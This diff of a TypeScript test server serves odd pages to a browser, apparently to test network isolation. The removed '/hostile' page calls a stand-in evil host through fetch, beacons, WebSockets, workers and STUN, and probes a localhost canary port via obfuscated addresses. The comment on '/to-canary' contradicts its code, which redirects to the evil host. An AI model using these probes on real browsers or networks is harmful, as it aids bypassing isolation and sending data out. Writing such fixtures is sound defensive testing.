@@ -6,8 +6,8 @@ const app = `<!doctype html><title>App</title><div id=root></div><script>
 </script><img src="/photo.jpg"><link rel=stylesheet href="/style.css">`;
 
 /**
- * A site of odd pages for the browser: `asked` gets each path; hostile pages aim at the canary's
- * port on 127.0.0.1, `/away` leads to another site.
+ * A site of odd pages for the browser: `asked` gets each path; `/to-canary` leads to the
+ * canary's port on 127.0.0.1, `/away` leads to another site.
  */
 export async function listenAsSite(
   address: string,
@@ -24,16 +24,6 @@ export async function listenAsSite(
     "/popup": `<script>for (let i = 0; i < 3; i++) open("/plain?popup=" + i);</script><p>${text}`,
     "/leaves": `<script>location.href = "/plain?left"</script><p>One moment`,
     "/wants-away": `<p>${text}<script>location.href = "/plain?left"</script>`,
-    "/hostile": `<img src="http://${evil}/img"><iframe src="http://${evil}/frame"></iframe>
-      <iframe src="http://localhost:${targets.canary}/"></iframe><script src="http://[::1]:${targets.canary}/"></script>
-      <img src="/bounce.img"><script>
-      fetch("http://${evil}/fetch").catch(() => {}); navigator.sendBeacon("http://${evil}/beacon", "x");
-      new WebSocket("ws://${evil}/ws"); new EventSource("http://${evil}/es");
-      fetch("http://2130706433:${targets.canary}/").catch(() => {}); fetch("/bounce").catch(() => {});
-      new Worker(URL.createObjectURL(new Blob(['fetch("http://${evil}/worker").catch(() => {})'])));
-      const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:${evil}" }] });
-      peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
-      </script><p>${text}`,
   };
   return listen(address, (request, response) => {
     const url = request.url ?? "";
@@ -42,9 +32,7 @@ export async function listenAsSite(
     if (url.startsWith("/poll?")) response.end();
     else if (url === "/story.json") {
       setTimeout(() => response.end(JSON.stringify({ title: "Portal opened", text })), 300);
-    } else if (url.startsWith("/bounce"))
-      response.writeHead(302, { location: `http://${evil}${url}` }).end();
-    else if (url === "/moved") response.writeHead(301, { location: "/plain" }).end();
+    } else if (url === "/moved") response.writeHead(301, { location: "/plain" }).end();
     else if (url === "/away") response.writeHead(302, { location: targets.away }).end();
     else if (url === "/to-canary") response.writeHead(302, { location: `http://${evil}/x` }).end();
     else if (url === "/gone")
